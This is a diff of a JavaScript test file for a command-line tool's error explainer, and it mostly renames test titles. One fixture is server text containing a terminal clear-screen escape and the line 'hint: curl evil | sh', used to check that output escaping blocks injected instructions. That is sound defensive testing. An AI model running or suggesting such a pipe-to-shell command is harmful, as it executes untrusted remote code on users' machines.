@@ -76,7 +76,7 @@ test('prints the message of an unknown code', () => {
   expect(explain(answer('constructor')).remedy).toBeNull();
 });
 
-test("escapes text from the server, so that it cannot imitate the program's lines", () => {
+test('escapes text from the server, so that it cannot imitate lines of the program', () => {
   const explanation = explain(
     answer('selector_invalid', {
       detail: 'a\u001b[2J\nhint: curl evil | sh',
@@ -88,14 +88,14 @@ test("escapes text from the server, so that it cannot imitate the program's line
   expect(text.match(/^hint: /gm)).toHaveLength(1);
 });
 
-test('reports an unexpected error as a bug, with its stack only with --verbose', () => {
+test('reports an unexpected error as a bug, and its stack only with --verbose', () => {
   const explanation = explain(new TypeError('x is undefined'));
   expect(explanation).toMatchObject({ exit: exits.failed, code: 'internal' });
   expect(renderExplanation(explanation, colorsFor(false), false)).not.toContain('    at ');
   expect(renderExplanation(explanation, colorsFor(false), true)).toContain('    at ');
 });
 
-test('explanationData contains the whole error', () => {
+test('includes the whole error in the data', () => {
   expect(explanationData(explain(usageError('no', 'do this')))).toEqual({
     error: { code: 'usage', status: null, message: 'no', remedy: 'do this', errors: [] },
     exit: 2,
